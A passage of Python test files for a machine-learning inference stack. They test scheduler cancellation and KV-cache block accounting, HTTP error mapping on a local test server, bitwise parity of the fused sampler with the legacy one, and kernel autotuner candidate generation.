            overlapped = True
        s.step()
    assert overlapped, "short request should decode while long prefills"
    assert not long.done or long.state == "done"
    drain(s)
    assert len(long.tokens) == 4 and len(short.tokens) == 8


# ----------------------------------------------------- parity + cancel

def test_batched_parity_with_sequential_generate(params):
    from kubeoperator_trn.infer import engine

    rng = np.random.default_rng(0)
    prompts = [rng.integers(0, CFG.vocab_size, size=n).astype(np.int32)
               for n in (3, 9, 5, 12)]
    seq = [[int(t) for t in engine.generate(CFG, params, p[None],
                                            max_new_tokens=6)[0]]
           for p in prompts]

    s = make_sched(params, slots=4, block_size=8, prefill_chunk=8)
    handles = [s.submit(p, max_new_tokens=6) for p in prompts]
    drain(s)
    batched = [h.result(timeout=0) for h in handles]
    assert batched == seq, "temp-0 batched decode must match sequential"
    assert s.alloc.num_used == 0
    assert s.alloc.num_free + s.alloc.num_cached == s.alloc.capacity


def test_cancel_mid_decode_releases_blocks(params):
    s = make_sched(params, slots=2, num_blocks=9, max_seq=64)
    req = s.submit([1, 2, 3], max_new_tokens=40)
    while req.state != "decode" or len(req.tokens) < 3:
        s.step()
    assert s.alloc.num_used > 0
    req.cancel()
    s.step()
    assert req.done and req.state == "cancelled"
    assert s.alloc.num_free == s.alloc.capacity, \
        "cancelled sequence must return its blocks immediately"
    with pytest.raises(RequestCancelledError):
        req.result(timeout=0)
    assert 3 <= len(req.tokens) < 40


def test_cancel_while_queued(params):
    s = make_sched(params, max_queue=8)
    req = s.submit([1, 2], max_new_tokens=4)
    req.cancel()
    s.step()
    assert req.done and req.state == "cancelled"
    assert s.pending == 0


def test_temperature_sampling_stays_in_vocab(params):
    s = make_sched(params)
    h = s.submit([1, 2, 3], max_new_tokens=8, temperature=0.9, top_k=5,
                 seed=3)
    drain(s)
    out = h.result(timeout=0)
    assert len(out) == 11
    assert all(0 <= t < CFG.vocab_size for t in out)


# ------------------------------------------------------------- config

def test_scheduler_config_from_env(monkeypatch):
    for k in ("KO_INFER_SLOTS", "KO_INFER_KV_BLOCK", "KO_INFER_KV_BLOCKS",
              "KO_INFER_PREFILL_CHUNK", "KO_INFER_QUEUE", "KO_MAX_SEQ",
              "KO_INFER_PREFIX_CACHE", "KO_INFER_PREFIX_EVICT",
              "KO_INFER_ADMIT_LOOKAHEAD"):
        monkeypatch.delenv(k, raising=False)
    sc = SchedulerConfig.from_env()
    assert (sc.slots, sc.block_size, sc.prefill_chunk) == (8, 128, 128)
    assert sc.prefix_cache is True and sc.prefix_evict == 0
    assert sc.admit_lookahead == 0, "default admission is exact FIFO"
    monkeypatch.setenv("KO_INFER_SLOTS", "4")
    monkeypatch.setenv("KO_INFER_KV_BLOCK", "16")
    monkeypatch.setenv("KO_MAX_SEQ", "999999")
    monkeypatch.setenv("KO_INFER_PREFIX_CACHE", "0")
    monkeypatch.setenv("KO_INFER_PREFIX_EVICT", "12")
    monkeypatch.setenv("KO_INFER_ADMIT_LOOKAHEAD", "3")
    sc = SchedulerConfig.from_env().resolved(CFG)
    assert sc.slots == 4 and sc.block_size == 16
    assert sc.prefix_cache is False and sc.prefix_evict == 12
    assert sc.admit_lookahead == 3
    assert sc.max_seq == CFG.max_seq_len, "model max caps KO_MAX_SEQ"
    # auto pool: every slot can hold a max_seq sequence, + scratch
    assert sc.num_blocks == 4 * blocks_needed(CFG.max_seq_len, 16) + 1


# ------------------------------------------------------------- server

def test_server_maps_queue_full_to_429(monkeypatch, params):
    import json
    import urllib.error
    import urllib.request

    from kubeoperator_trn.infer.server import InferenceService, make_server

    svc = InferenceService(cfg=CFG, params=params, preset="llama3_tiny",
                           use_scheduler=False)
    def full(*a, **kw):
        raise QueueFullError("queue full (test)")
    monkeypatch.setattr(svc, "generate", full)
    server, thread = make_server(svc)
    thread.start()
    base = f"http://127.0.0.1:{server.server_address[1]}"
    r = urllib.request.Request(
        base + "/generate",
        data=json.dumps({"prompt_ids": [[1, 2]]}).encode(), method="POST")
    with pytest.raises(urllib.error.HTTPError) as ei:
        urllib.request.urlopen(r, timeout=30)
    assert ei.value.code == 429
    assert "queue full" in json.loads(ei.value.read())["error"]
    server.shutdown()


def test_server_healthz_reports_scheduler_state(monkeypatch, params):
    import json
    import urllib.request

    from kubeoperator_trn.infer.server import InferenceService, make_server

    monkeypatch.setenv("KO_INFER_SLOTS", "2")
    monkeypatch.setenv("KO_INFER_KV_BLOCK", "16")
    svc = InferenceService(cfg=CFG, params=params, preset="llama3_tiny",
                           use_scheduler=True)
    try:
        server, thread = make_server(svc)
        thread.start()
        base = f"http://127.0.0.1:{server.server_address[1]}"
        with urllib.request.urlopen(base + "/healthz", timeout=30) as resp:
            h = json.loads(resp.read())
        assert h["batching"] is True
        assert h["slots"] == 2 and h["active_slots"] == 0
        assert h["queue_depth"] == 0
        assert h["free_kv_blocks"] == h["kv_blocks"] > 0

        # end-to-end through the scheduler thread
        r = urllib.request.Request(
            base + "/generate",
            data=json.dumps({"prompt_ids": [[1, 2, 3], [4, 5, 6]],
                             "max_new_tokens": 3}).encode(),
            method="POST")
        with urllib.request.urlopen(r, timeout=120) as resp:
            out = json.loads(resp.read())["tokens"]
        assert len(out) == 2 and all(len(row) == 6 for row in out)
        server.shutdown()
    finally:
        svc.close()


# ------------------------------------------- trace propagation (ISSUE 8)

def test_infer_request_span_carries_callers_trace_id(params):
    """The trace id active on the submitting thread must reach the
    infer.request span even though completion happens on the scheduler
    loop thread — submit() captures it at request construction."""
    from kubeoperator_trn.telemetry import tracing as T

    tracer = T.get_tracer()
    s = make_sched(params, slots=2)
    s.start()
    tid = T.new_trace_id()
    try:
        with tracer.span("client.call", trace_id=tid):
            h = s.submit([1, 2, 3], max_new_tokens=2)
        assert h.result(timeout=120) is not None
    finally:
        s.stop()
    linked = [sp for sp in tracer.find(tid) if sp["name"] == "infer.request"]
    assert linked, "infer.request span lost the caller's trace id"
    assert linked[0]["attrs"]["prompt_len"] == 3

    # without an active trace, each request still gets a fresh trace id
    s2 = make_sched(params, slots=2)
    h2 = s2.submit([1, 2], max_new_tokens=1)
    drain(s2)
    assert h2.result(timeout=5) is not None
    own = [sp for sp in tracer.tail(50)
           if sp["name"] == "infer.request"
           and sp["attrs"]["prompt_len"] == 2]
    assert own and own[-1]["trace_id"] != tid


# ----------------------------------- timeout / device failure (ISSUE 11)

def test_generate_timeout_cancels_rows_and_frees_kv(monkeypatch, params):
    """A request that hits KO_INFER_TIMEOUT_S must cancel its scheduler
    rows so the KV blocks release on the next scheduler iteration —
    before the fix an abandoned row kept decoding (and holding blocks)
    to max_new_tokens."""
    import threading
    import time

    from kubeoperator_trn.infer.server import InferenceService

    svc = InferenceService(cfg=CFG, params=params, preset="llama3_tiny",
                           use_scheduler=False)
    sched = make_sched(params)          # not started: stepped manually
    svc.scheduler = sched
    capacity = sched.alloc.num_free
    monkeypatch.setenv("KO_INFER_TIMEOUT_S", "0.3")
    errs = []

    def call():
        try:
            svc.generate([[1, 2, 3]], max_new_tokens=64)
        except Exception as e:  # noqa: BLE001 — recorded for assertion
            errs.append(e)

    t = threading.Thread(target=call)
    t.start()
    # admit + prefill the row, then stop stepping so the deadline fires
    spin_deadline = time.monotonic() + 10
    while sched.active == 0 and time.monotonic() < spin_deadline:
        sched.step()
        time.sleep(0.005)
    assert sched.active == 1, "row never admitted"
    assert sched.alloc.num_used > 0, "admitted row must hold KV blocks"
    t.join(timeout=10)
    assert not t.is_alive(), "generate() hung past its deadline"
    assert errs and isinstance(errs[0], TimeoutError)
    # the timed-out caller cancelled its handle; one iteration releases
    # the slot and every block it held
    sched.step()
    assert sched.active == 0
    assert sched.alloc.num_used == 0
    assert sched.alloc.num_free == capacity


def test_timeout_cancel_with_shared_blocks_never_double_frees(params):
    """ISSUE 13 extension of the PR 11 timeout-cancel regression: when
    the cancelled sequence's block table maps prefix-cache blocks shared
    with a still-live sequence, cancellation must only drop ITS
    references — the survivor keeps decoding from the same physical
    blocks and the final audit balances."""
    rng = np.random.default_rng(5)
    shared = rng.integers(0, CFG.vocab_size, size=16).astype(np.int32)
    s = make_sched(params, slots=4)
    warm = s.submit(np.concatenate([shared, [7]]).astype(np.int32),
                    max_new_tokens=2)
    drain(s)
    assert warm.done
    # both map the 2 cached shared-prefix blocks into their tables
    a = s.submit(np.concatenate([shared, [9]]).astype(np.int32),
                 max_new_tokens=30)
    b = s.submit(np.concatenate([shared, [11]]).astype(np.int32),
                 max_new_tokens=30)
    while a.state != "decode" or b.state != "decode":
        s.step()
    assert a.prefix_tokens == 16 and b.prefix_tokens == 16
    shared_blocks = [blk for blk in a.blocks if blk in b.blocks]
    assert len(shared_blocks) == 2, "prefix blocks must be shared"
    assert all(s.alloc.refcount(blk) == 2 for blk in shared_blocks)
    a.cancel()   # the timeout path calls exactly this (see server.py)
    s.step()
    assert a.done and a.state == "cancelled"
    for blk in shared_blocks:
        assert s.alloc.refcount(blk) == 1, \
            "cancel must decref shared blocks, not free them"
    assert not b.done
    drain(s)
    assert b.done and len(b.tokens) == 30
    # full audit: nothing live, free + cache-retained covers the pool
    assert s.alloc.num_used == 0
    assert s.alloc.num_free + s.alloc.num_cached == s.alloc.capacity
    # and a second cancel/free of the same handle must be inert
    a.cancel()
    s.step()
    assert s.alloc.num_used == 0


def test_device_failure_fails_every_future_and_poisons_submit(params):
    """_fail_all: a device error mid-decode must surface on every queued
    AND in-flight future (no hangs), and later submits must be refused
    immediately instead of queueing against a dead loop thread."""
    s = make_sched(params, slots=2)

    def boom(*a, **kw):
        raise RuntimeError("nrt: DEVICE_ERROR execution halt (test)")

    # poison both decode dispatch handles: the fused sampler routes
    # through _decode_sample_jit, the legacy path through _decode_jit
    s._decode_jit = boom
    s._decode_sample_jit = boom
    # submit before starting the loop so 2 land in slots and 3 queue —
    # the failure then has both populations to fail
    handles = [s.submit([1, 2, 3], max_new_tokens=4) for _ in range(5)]
    s.start()
    try:
        for h in handles:
            with pytest.raises(SchedulerFailedError) as ei:
                h.result(timeout=30)
            assert isinstance(ei.value.__cause__, RuntimeError)
        with pytest.raises(SchedulerFailedError):
            s.submit([1, 2], max_new_tokens=1)
        assert all(r is None for r in s.slots)
        assert s.pending == 0
    finally:
        s.stop()


def test_server_maps_scheduler_failure_to_503(monkeypatch, params):
    import json
    import urllib.error
    import urllib.request

    from kubeoperator_trn.infer.server import InferenceService, make_server

    svc = InferenceService(cfg=CFG, params=params, preset="llama3_tiny",
                           use_scheduler=False)

    def dead(*a, **kw):
        raise SchedulerFailedError("scheduler is down after a device "
                                   "failure (test)")

    monkeypatch.setattr(svc, "generate", dead)
    server, thread = make_server(svc)
    thread.start()
    base = f"http://127.0.0.1:{server.server_address[1]}"
    r = urllib.request.Request(
        base + "/generate",
        data=json.dumps({"prompt_ids": [[1, 2]]}).encode(), method="POST")
    with pytest.raises(urllib.error.HTTPError) as ei:
        urllib.request.urlopen(r, timeout=30)
    assert ei.value.code == 503
    assert "device failure" in json.loads(ei.value.read())["error"]
    server.shutdown()


def test_server_maps_request_timeout_to_504(monkeypatch, params):
    import json
    import urllib.error
    import urllib.request

    from kubeoperator_trn.infer.server import InferenceService, make_server

    svc = InferenceService(cfg=CFG, params=params, preset="llama3_tiny",
                           use_scheduler=False)

    def slow(*a, **kw):
        raise TimeoutError("request not finished after 0.3s (test)")

    monkeypatch.setattr(svc, "generate", slow)
    server, thread = make_server(svc)
    thread.start()
    base = f"http://127.0.0.1:{server.server_address[1]}"
    r = urllib.request.Request(
        base + "/generate",
        data=json.dumps({"prompt_ids": [[1, 2]]}).encode(), method="POST")
    with pytest.raises(urllib.error.HTTPError) as ei:
        urllib.request.urlopen(r, timeout=30)
    assert ei.value.code == 504
    server.shutdown()
