"""On-chip sampling plane (ISSUE 20): twin-vs-legacy bitwise parity,
device key-chain equivalence, scheduler fused-vs-legacy token parity,
byte accounting, slot-recycle key hygiene, and the KO_SAMPLE_FUSED=0
escape hatch.

Bitwise parity is the load-bearing invariant: the fused dispatch must
produce *exactly* the legacy host sampler's stream — greedy argmax,
temperature categorical under the replicated fold_in chain, and top-k
masking — so every parity test compares tokens bitwise, not
approximately.  Everything drives ``step()`` on the test thread, as in
test_scheduler/test_specdec.
"""

import jax
import jax.numpy as jnp
import numpy as np
import pytest

from kubeoperator_trn.infer import engine
from kubeoperator_trn.infer.scheduler import (
    ContinuousBatchingScheduler, SchedulerConfig)
from kubeoperator_trn.models import llama
from kubeoperator_trn.ops.attention import NEG_INF
from kubeoperator_trn.ops.sampling import (
    SAMPLE_IMPLS, resolve_sample_impl, row_thresholds, sample_blockwise,
    sample_fused_enabled, sample_rows, step_sample_bytes, topk_threshold)
from kubeoperator_trn.telemetry import MetricsRegistry

CFG = llama.PRESETS["llama3_tiny"]


@pytest.fixture(scope="module")
def params():
    return llama.init_params_numpy(CFG, 7)


def make_sched(params, **kw):
    kw.setdefault("slots", 2)
    kw.setdefault("block_size", 8)
    kw.setdefault("prefill_chunk", 8)
    kw.setdefault("max_seq", 64)
    kw.setdefault("num_blocks", 24)
    sc = SchedulerConfig(**kw)
    return ContinuousBatchingScheduler(CFG, params, sc,
                                       registry=MetricsRegistry())


def drain(sched, max_steps=4000):
    steps = 0
    while sched.pending:
        sched.step()
        steps += 1
        assert steps < max_steps, "scheduler did not converge"
    return steps


def run_pair(params, monkeypatch, submits, **kw):
    """The same request stream through a legacy (KO_SAMPLE_FUSED=0)
    and a fused scheduler; returns (legacy outs, fused outs, legacy
    sched, fused sched)."""
    out = []
    scheds = []
    for fused in ("0", "1"):
        monkeypatch.setenv("KO_SAMPLE_FUSED", fused)
        s = make_sched(params, **kw)
        reqs = [s.submit(**sub) for sub in submits]
        drain(s)
        out.append([list(r.prompt) + r.tokens for r in reqs])
        scheds.append(s)
    return out[0], out[1], scheds[0], scheds[1]


def sample_bytes(sched, impl):
    return sched.m["sample_bytes"].labels(impl=impl).value


# ------------------------------------------------ twin bitwise parity

def test_twin_greedy_bitwise_parity_incl_tile_boundary_tie():
    v, vt = 97, 32
    x = np.array(jax.random.normal(jax.random.key(0), (4, v)),
                 np.float32)
    # row 0: the max value duplicated straddling the vt tile boundary
    # (indices vt-1 and vt) — the cross-tile adoption must keep the
    # *earlier* tile's winner, jnp.argmax's lowest-index semantics
    big = float(np.max(x) + 3.0)
    x[0, vt - 1] = big
    x[0, vt] = big
    # row 1: tie inside one tile
    x[1, 5] = big
    x[1, 7] = big
    thr = np.full((4, 1), NEG_INF, np.float32)
    tok, lp = sample_blockwise(jnp.asarray(x), jnp.asarray(thr),
                               None, vt)
    np.testing.assert_array_equal(np.asarray(tok),
                                  np.argmax(x, axis=-1))
    assert int(tok[0]) == vt - 1 and int(tok[1]) == 5
    # logprob column: -log(sum exp(x - max)) == exact token logprob
    ref = x[2] - (np.max(x[2]) + np.log(
        np.sum(np.exp(x[2] - np.max(x[2])))))
    assert abs(float(lp[2]) - float(ref[np.argmax(x[2])])) < 1e-5


@pytest.mark.parametrize("vt", (16, 64, 97, 1000))
def test_twin_greedy_parity_ragged_vt(vt):
    x = jax.random.normal(jax.random.key(3), (3, 97), jnp.float32)
    thr = jnp.full((3, 1), NEG_INF, jnp.float32)
    tok, _ = sample_blockwise(x, thr, None, vt)
    np.testing.assert_array_equal(np.asarray(tok),
                                  np.argmax(np.asarray(x), axis=-1))


def test_twin_temp_bitwise_parity_vs_categorical():
    # argmax(logits/T + gumbel(key)) must be bitwise
    # jax.random.categorical(key, logits/T) — the fused sampler's whole
    # temperature story rests on this identity
    v, temp = 211, 0.73
    logits = jax.random.normal(jax.random.key(9), (5, v), jnp.float32)
    keys = [jax.random.fold_in(jax.random.key(17), i) for i in range(5)]
    scaled = logits / jnp.float32(temp)
    noise = jnp.stack([jax.random.gumbel(k, (v,), jnp.float32)
                       for k in keys])
    thr = jnp.full((5, 1), NEG_INF, jnp.float32)
    tok, _ = sample_blockwise(scaled, thr, noise, 64)
    ref = [int(jax.random.categorical(k, scaled[i]))
           for i, k in enumerate(keys)]
    np.testing.assert_array_equal(np.asarray(tok), np.asarray(ref))


def test_twin_topk_mask_bitwise_parity():
    # additive (keep-1)*1e30 mask == legacy where(< thresh, NEG_INF)
    # through f32 absorption, and the lax.top_k threshold == the
    # legacy full-sort threshold
    v, k = 130, 7
    scaled = jax.random.normal(jax.random.key(2), (4, v), jnp.float32)
    key = jax.random.key(33)
    noise = jnp.broadcast_to(
        jax.random.gumbel(key, (v,), jnp.float32), (4, v))
    thr_sort = jnp.sort(scaled, axis=-1)[..., -k][..., None]
    assert np.array_equal(np.asarray(topk_threshold(scaled, k)),
                          np.asarray(thr_sort))
    legacy = jnp.where(scaled < thr_sort, NEG_INF, scaled) + noise
    top_ks = jnp.full((4,), k, jnp.int32)
    tok, _ = sample_blockwise(scaled, row_thresholds(scaled, top_ks, 8),
                              noise, 33)
    np.testing.assert_array_equal(
        np.asarray(tok), np.argmax(np.asarray(legacy), axis=-1))


def test_row_thresholds_off_and_overlarge_k():
    scaled = jax.random.normal(jax.random.key(5), (3, 16), jnp.float32)
    # k = 0 -> NEG_INF (top-k off, every lane kept)
    thr = row_thresholds(scaled, jnp.asarray([0, 3, 999], jnp.int32), 16)
    assert float(thr[0, 0]) == float(np.float32(NEG_INF))
    # k past the vocab degenerates to the row min — keep everything,
    # matching the legacy clamped sort index
    assert float(thr[2, 0]) == float(jnp.min(scaled[2]))
    t3 = jnp.sort(scaled[1])[-3]
    assert float(thr[1, 0]) == float(t3)


def test_engine_sample_topk_bitwise_vs_old_sort():
    # satellite: engine.sample's lax.top_k threshold must reproduce the
    # old jnp.sort formula bitwise, including top_k > vocab clamping
    logits = jax.random.normal(jax.random.key(8), (2, 64), jnp.float32)
    key = jax.random.key(4)
    for k in (1, 5, 64, 200):
        got = engine.sample(logits, key, temperature=0.9, top_k=k)
        scaled = logits / 0.9
        thr = jnp.sort(scaled, axis=-1)[..., -k][..., None]
        ref = jax.random.categorical(
            key, jnp.where(scaled < thr, NEG_INF, scaled), axis=-1)
        np.testing.assert_array_equal(np.asarray(got), np.asarray(ref))


# ------------------------------------------------- device key chain

def test_device_key_chain_matches_host_chain():
    # the on-device fold_in chain (raw [NS, 2] uint32 state advanced
    # inside the jit) must reproduce the host's
    # req._key = fold_in(req._key, req._decode_i) sequence bit for bit
    seed = 123
    kd = jnp.asarray(jax.random.key_data(jax.random.key(seed)),
                     jnp.uint32)
    keys = jnp.stack([kd, jnp.zeros((2,), jnp.uint32)])
    host = jax.random.key(seed)
    for i in range(4):
        steps = jnp.asarray([i, 0], jnp.int32)
        advance = jnp.asarray([True, False])
        folded, keys = engine._fold_slot_keys(keys, steps, advance)
        host = jax.random.fold_in(host, i)
        np.testing.assert_array_equal(
            np.asarray(jax.random.key_data(folded[0])),
            np.asarray(jax.random.key_data(host)))
        np.testing.assert_array_equal(np.asarray(keys[0]),
                                      np.asarray(jax.random.key_data(host)))
        # non-advancing row keeps its stored data verbatim
        assert np.all(np.asarray(keys[1]) == 0)


def test_argmax_sentinel_f32_exact():
    """The bass kernels' iota min-trick computes ``idx - _BIG`` in f32
    and adds ``_BIG`` back after the min-reduce, so the sentinel must
    keep integer arithmetic exact for every vocab index — a sentinel
    past 2^24 (the old 1e9, 64-ulp spacing there) quantizes distinct
    indices together and rounds every returned token id.  CPU-runnable
    guard for the concourse-gated kernels."""
    from kubeoperator_trn.kernels import sample_bass, spec_verify_bass

    for mod in (sample_bass, spec_verify_bass):
        big = np.float32(mod._BIG)
        idx = np.arange(0, 131072, dtype=np.float32)  # 128k-class vocab
        shifted = idx - big
        # distinct indices stay distinct after the shift...
        assert np.unique(shifted).size == idx.size, mod.__name__
        # ...and round-trip exactly when the sentinel is added back
        np.testing.assert_array_equal(shifted + big, idx)


def test_sample_rows_jax_greedy_and_temp():
    logits = jax.random.normal(jax.random.key(1), (3, 64), jnp.float32)
    temps = jnp.asarray([0.0, 0.5, 0.0], jnp.float32)
    top_ks = jnp.zeros((3,), jnp.int32)
    key = jax.random.key(77)
    noise = jnp.stack([
        jnp.zeros((64,), jnp.float32),
        jax.random.gumbel(key, (64,), jnp.float32),
        jnp.zeros((64,), jnp.float32)])
    tok, _ = sample_rows(logits, temps, top_ks, noise, 8, impl="jax")
    assert int(tok[0]) == int(np.argmax(np.asarray(logits[0])))
    assert int(tok[2]) == int(np.argmax(np.asarray(logits[2])))
    ref = jax.random.categorical(key, logits[1] / 0.5)
    assert int(tok[1]) == int(ref)


def test_sample_rows_has_topk_off_matches_default():
    """has_topk=False (static skip of the O(S·V) threshold top_k when
    no row uses top-k) must be bitwise the default path: all-off
    thresholds resolve to NEG_INF either way."""
    logits = jax.random.normal(jax.random.key(2), (3, 64), jnp.float32)
    temps = jnp.asarray([0.0, 0.7, 1.2], jnp.float32)
    top_ks = jnp.zeros((3,), jnp.int32)
    noise = (jax.random.gumbel(jax.random.key(9), (3, 64), jnp.float32)
             * (temps > 0.0)[:, None])
    tok_a, lp_a = sample_rows(logits, temps, top_ks, noise, 8,
                              impl="jax")
    tok_b, lp_b = sample_rows(logits, temps, top_ks, noise, 8,
                              impl="jax", has_topk=False)
    np.testing.assert_array_equal(np.asarray(tok_a), np.asarray(tok_b))
    np.testing.assert_array_equal(np.asarray(lp_a), np.asarray(lp_b))


# -------------------------------------------- scheduler fused parity

def _subs(n=3, temp=0.0, top_k=0, max_new=8):
    return [dict(prompt=np.arange(5 + i, 21 + i) % CFG.vocab_size,
                 max_new_tokens=max_new, temperature=temp, top_k=top_k,
                 seed=11 + i) for i in range(n)]


def test_scheduler_fused_greedy_bitwise_parity(params, monkeypatch):
    base, fused, s0, s1 = run_pair(params, monkeypatch, _subs())
    assert base == fused
    # fused run ships zero logits bytes; legacy ships them all
    assert sample_bytes(s1, "host") == 0
    assert sample_bytes(s1, s1.sample_impl) > 0
    assert sample_bytes(s0, "host") > 0


def test_scheduler_fused_temp_topk_bitwise_parity(params, monkeypatch):
    base, fused, _, s1 = run_pair(
        params, monkeypatch, _subs(temp=0.8, top_k=8))
    assert base == fused
    assert sample_bytes(s1, "host") == 0


def test_scheduler_fused_mixed_batch_parity(params, monkeypatch):
    subs = (_subs(2, temp=0.0) + _subs(2, temp=0.7, top_k=4)
            + _subs(1, temp=1.5))
    base, fused, _, _ = run_pair(params, monkeypatch, subs, slots=3)
    assert base == fused


def test_spec_full_rejection_zero_logits_bytes(params, monkeypatch):
    # acceptance-0 GarbageDrafter runs must ship ZERO logits bytes
    # under the fused sampler (satellite: the old per-slot "ship one
    # row" host hop on the spec temperature path is gone), with output
    # still bitwise the legacy stream
    class GarbageDrafter:
        name = "garbage"

        def propose(self, tokens, k):
            last = int(tokens[-1]) if len(tokens) else 0
            return ((last + 1 + np.arange(k, dtype=np.int32))
                    % CFG.vocab_size).astype(np.int32)

    subs = _subs(2, temp=0.0) + _subs(2, temp=0.9, top_k=6)
    outs = []
    for fused in ("0", "1"):
        monkeypatch.setenv("KO_SAMPLE_FUSED", fused)
        s = make_sched(params, slots=2, spec_k=2)
        s.spec.drafter = GarbageDrafter()
        reqs = [s.submit(**sub) for sub in subs]
        drain(s)
        outs.append([list(r.prompt) + r.tokens for r in reqs])
        if fused == "1":
            assert sample_bytes(s, "host") == 0
            assert sample_bytes(s, s.sample_impl) > 0
    assert outs[0] == outs[1]


def test_slot_recycle_resets_device_key(params, monkeypatch):
    monkeypatch.setenv("KO_SAMPLE_FUSED", "1")
    s = make_sched(params, slots=2)
    r = s.submit(np.arange(4, 20), max_new_tokens=4, temperature=0.9,
                 seed=3)
    # key state is seeded at prefill completion and zeroed when the
    # slot recycles — the next occupant must never inherit a chain
    drain(s)
    assert r.slot is None
    assert np.all(np.asarray(s._keys) == 0)


def test_fused_escape_hatch_uses_legacy_path(params, monkeypatch):
    monkeypatch.setenv("KO_SAMPLE_FUSED", "0")
    assert not sample_fused_enabled()
    s = make_sched(params)
    assert s.sample_fused is False
    assert s._keys is None and s._decode_sample_jit is None
    rep = s.sample_report()
    assert rep["impl"] == "host" and rep["fused"] is False
    assert rep["step_bytes"] == rep["step_bytes_legacy"]
    monkeypatch.delenv("KO_SAMPLE_FUSED")
    assert sample_fused_enabled()


def test_sample_report_fused_shape(params, monkeypatch):
    monkeypatch.setenv("KO_SAMPLE_FUSED", "1")
    s = make_sched(params)
    rep = s.sample_report()
    assert rep["fused"] is True and rep["impl"] in ("jax", "bass")
    ns, v = s.sc.slots, CFG.vocab_size
    assert rep["step_bytes"] == ns * 2 * 4
    assert rep["step_bytes_legacy"] == ns * v * 4
    assert rep["step_bytes_saved"] == ns * (v - 2) * 4


# ----------------------------------------- resolution + byte model

def test_resolve_sample_impl_precedence(monkeypatch):
    monkeypatch.delenv("KO_SAMPLE_IMPL", raising=False)
    assert resolve_sample_impl("jax") == "jax"
    monkeypatch.setenv("KO_SAMPLE_IMPL", "jax")
    assert resolve_sample_impl() == "jax"
    assert resolve_sample_impl("auto") in ("jax", "bass")
    monkeypatch.setenv("KO_SAMPLE_IMPL", "tpu")
    with pytest.raises(ValueError):
        resolve_sample_impl()
    monkeypatch.delenv("KO_SAMPLE_IMPL")
    assert resolve_sample_impl() in SAMPLE_IMPLS[1:]


def test_step_sample_bytes_model():
    assert step_sample_bytes(16, 128256, False) == 16 * 128256 * 4
    assert step_sample_bytes(16, 128256, True) == 16 * 2 * 4
    assert step_sample_bytes(1, 512, False) == 2048


def test_autotune_sample_candidates():
    from kubeoperator_trn.kernels import autotune

    cands = autotune.generate_candidates("sample_bass", (4, 512),
                                         "float32")
    assert cands and all(c["vt"] <= 512 for c in cands)
    fast = autotune.generate_candidates("sample_bass", (4, 8192),
                                        "float32", fast=True)
    assert len(fast) == 2
    small = autotune.generate_candidates("sample_bass", (4, 100),
                                         "float32")
    assert small == [{"vt": 100, "grid": [1]}]


def test_autotune_sample_candidate_callable_runs():
    from kubeoperator_trn.kernels import autotune

    job = {"kernel": "sample_bass", "shape": (4, 96),
           "dtype": "float32", "config": {"vt": 32}}
    fn, args = autotune._candidate_callable(job)
    tok, lp = fn(*args)
    logits, inv_t, thresh, noise = args
    ref = np.argmax(np.asarray(logits) + np.asarray(noise), axis=-1)
    np.testing.assert_array_equal(np.asarray(tok), ref)
    assert lp.shape == (4,)
