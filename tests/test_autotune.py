"""Kernel autotuner (ISSUE 9): candidate generation, best-config cache,
trace-time consult, the AOT compile farm, and the bench log fold."""

import json
import os
import subprocess
import sys
import time

import jax
import jax.numpy as jnp
import pytest

from kubeoperator_trn.kernels import autotune as at

REPO = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))

ATTN_SHAPE = (1, 128, 4, 2, 32)
RMS_SHAPE = (256, 64)
GFFN_SHAPE = (4, 64, 32, 48)  # (E, C, D, F)


@pytest.fixture
def scratch_cache(tmp_path, monkeypatch):
    path = str(tmp_path / "autotune_best.json")
    monkeypatch.setenv("KO_AUTOTUNE_CACHE", path)
    monkeypatch.delenv("KO_AUTOTUNE", raising=False)
    monkeypatch.delenv("KO_AUTOTUNE_FORCE", raising=False)
    return path


# -- candidate generation ----------------------------------------------


def test_attention_candidates_respect_kernel_constraints():
    cands = at.generate_candidates("attention_nki", ATTN_SHAPE, "float32")
    assert cands, "no candidates for a legal shape"
    s = ATTN_SHAPE[1]
    for c in cands:
        assert c["tile"] <= 128 and s % c["tile"] == 0
        assert c["acc"] in ("float32", "bfloat16")
    # hand-tuned 128 is first so fast mode always tries it
    assert cands[0]["tile"] == 128


def test_attention_candidates_fast_mode_is_two():
    cands = at.generate_candidates("attention_nki", ATTN_SHAPE, "float32",
                                   fast=True)
    assert len(cands) == 2
    assert all(c["acc"] == "float32" for c in cands)


def test_rmsnorm_candidates_and_unknown_kernel():
    cands = at.generate_candidates("rmsnorm_nki", RMS_SHAPE, "float32")
    assert all(c["rows"] <= 128 for c in cands)
    with pytest.raises(ValueError):
        at.generate_candidates("conv_nki", (1,), "float32")


def test_grouped_ffn_candidates_respect_constraints():
    cands = at.generate_candidates("grouped_ffn_nki", GFFN_SHAPE, "float32")
    assert cands, "no candidates for a legal shape"
    e, c = GFFN_SHAPE[0], GFFN_SHAPE[1]
    for cfg in cands:
        assert cfg["rows"] <= 128 and c % cfg["rows"] == 0
        assert cfg["acc"] in ("float32", "bfloat16")
        assert cfg["grid"] == [e, c // cfg["rows"]]
    fast = at.generate_candidates("grouped_ffn_nki", GFFN_SHAPE, "float32",
                                  fast=True)
    assert len(fast) <= 2 and all(c["acc"] == "float32" for c in fast)


def test_grouped_ffn_candidate_forward_parity():
    from kubeoperator_trn.kernels.grouped_ffn_nki import (
        candidate_forward, grouped_ffn)

    e, c, d, f = GFFN_SHAPE
    ks = jax.random.split(jax.random.key(0), 4)
    x = jax.random.normal(ks[0], (e, c, d), jnp.float32)
    wg = jax.random.normal(ks[1], (e, d, f), jnp.float32) * 0.1
    wu = jax.random.normal(ks[2], (e, d, f), jnp.float32) * 0.1
    wd = jax.random.normal(ks[3], (e, f, d), jnp.float32) * 0.1
    ref = grouped_ffn(x, wg, wu, wd)
    for cfg in at.generate_candidates("grouped_ffn_nki", GFFN_SHAPE,
                                      "float32"):
        y = candidate_forward(cfg)(x, wg, wu, wd)
        tol = 5e-2 if cfg["acc"] == "bfloat16" else 1e-5
        assert float(jnp.max(jnp.abs(y - ref))) < tol, cfg


def test_cache_key_schema():
    key = at.cache_key("attention_nki", ATTN_SHAPE, "float32", "8,1,1,1,1")
    assert key == "attention_nki|1,128,4,2,32|float32|8,1,1,1,1"


# -- autotune loop + cache ---------------------------------------------


def test_autotune_cold_then_cached(scratch_cache):
    r1 = at.autotune("attention_nki", ATTN_SHAPE, "float32", fast=True,
                     workers=0, iters=2)
    assert r1["recompiles"] > 0 and not r1["cached"]
    assert r1["config"] and not r1["failed"]
    assert os.path.exists(scratch_cache)

